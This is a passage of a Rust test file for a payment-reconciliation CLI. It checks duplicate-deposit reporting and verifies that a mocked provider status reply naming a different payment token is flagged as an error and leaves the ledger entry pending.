            stderr.contains(&format!(
                "line {line}: vpay88 deposit M-00001 is listed twice (first on line 3)"
            )),
            "{line}: {stderr}"
        );
    }
    assert!(!stderr.contains(&format!("line {}:", bad[10])), "{stderr}");
    assert!(stderr.contains("; and 18 more"), "{stderr}");
    assert!(sandbox.status_requests().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_onepunch_status_answer_naming_another_payment_token_is_an_error_and_moves_nothing() {
    // ONE-PUNCH, asked about the payment OPT1, answers about OPT9 (paid).
    let server = httpmock::MockServer::start_async().await;
    server
        .mock_async(|when, then| {
            when.method(httpmock::Method::GET)
                .path_prefix("/api/v0/payment/status/OPT1/");
            then.status(200)
                .header("content-type", "application/json")
                .body(
                    r#"{"status":true,"message":"OK","user_info":{},"payload":{"payment_token":"OPT9","amount":1000,"processed":true,"completed":true}}"#,
                );
        })
        .await;
    let dir = paybridge_testkit::temp_dir("paybridge-reconcile-onepunch-token");
    let url = format!("sqlite://{}", dir.join("ledger.db").display());
    let ledger = SqlLedger::open(&url).await.unwrap();
    let key = paybridge_testkit::deposit_held(
        &ledger,
        paybridge::providers::ONEPUNCH,
        "P1",
        &Money::parse("10", "CNY").unwrap(),
        Some("OPT1"),
    )
    .await;
    let config = dir.join("paybridge.toml");
    std::fs::write(
        &config,
        format!(
            "[onepunch]\nbase_url = \"{}\"\nmonster_token = \"MON-x\"\nmonster_key = \"op-key\"\n\
             [http]\nread_attempts = 1\n[ledger]\nurl = \"{url}\"\n",
            server.base_url()
        ),
    )
    .unwrap();
    // 6: findings to look into.
    let out = run(&config, &["--output", "json", "reconcile"], 6);
    let report = json(&out);
    let row = &report["orders"][0];
    assert_eq!(row["order_id"], "P1", "{report}");
    assert_eq!(row["verdict"], "error", "{report}");
    assert!(row["detail"].as_str().unwrap().contains("OPT9"), "{report}");
    let held = ledger.get(&key).await.unwrap().unwrap();
    assert_eq!(held.state, LedgerState::Pending);
    assert_eq!(held.provider_ref.as_deref(), Some("OPT1"));
}
